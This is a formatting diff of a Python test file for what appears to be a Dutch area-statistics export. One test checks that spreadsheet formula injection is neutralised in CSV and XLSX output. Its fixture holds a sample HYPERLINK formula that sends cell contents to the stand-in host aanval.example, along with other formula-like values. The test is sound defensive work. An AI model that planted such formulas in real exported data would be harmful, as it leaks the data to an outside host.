@@ -33,8 +33,15 @@ def disclosed() -> pd.DataFrame:
 def test_published_rows_drop_raw_columns(disclosed: pd.DataFrame) -> None:
     rows = published_rows(disclosed, {"BU09832501": "Klingerberg-Zuid"})
     assert list(rows.columns) == [
-        "code", "naam", "niveau", "periode", "indicator", "aantal_afgerond", "waarde", "status",
-    ]  # fmt: skip
+        "code",
+        "naam",
+        "niveau",
+        "periode",
+        "indicator",
+        "aantal_afgerond",
+        "waarde",
+        "status",
+    ]
     assert rows.loc[0, "naam"] == "Klingerberg-Zuid"
     assert rows["aantal_afgerond"].isna().tolist() == [True, False, True]
     assert rows.loc[1, "aantal_afgerond"] == 1235
@@ -77,9 +84,14 @@ def test_a_formula_in_an_area_name_is_text_in_csv_and_xlsx() -> None:
 
     evil = '=HYPERLINK("http://aanval.example/?d="&A2,"klik")'
     table = pd.DataFrame(
-        {"code": ["BU1", "BU2"], "naam": [evil, "@SUM(1+1)"], "waarde": [-1.5, 2.0],
-         "tekst": ["-12,5", "+31 6"], "-kop": ["a", "b"]}
-    )  # fmt: skip
+        {
+            "code": ["BU1", "BU2"],
+            "naam": [evil, "@SUM(1+1)"],
+            "waarde": [-1.5, 2.0],
+            "tekst": ["-12,5", "+31 6"],
+            "-kop": ["a", "b"],
+        }
+    )
     text = csv_bytes(table).decode("utf-8-sig")
     assert "'=HYPERLINK" in text and "\n=" not in text and ";=" not in text
     assert "'@SUM" in text and ";-12,5;" in text and "'+31 6" in text and "'-kop" in text
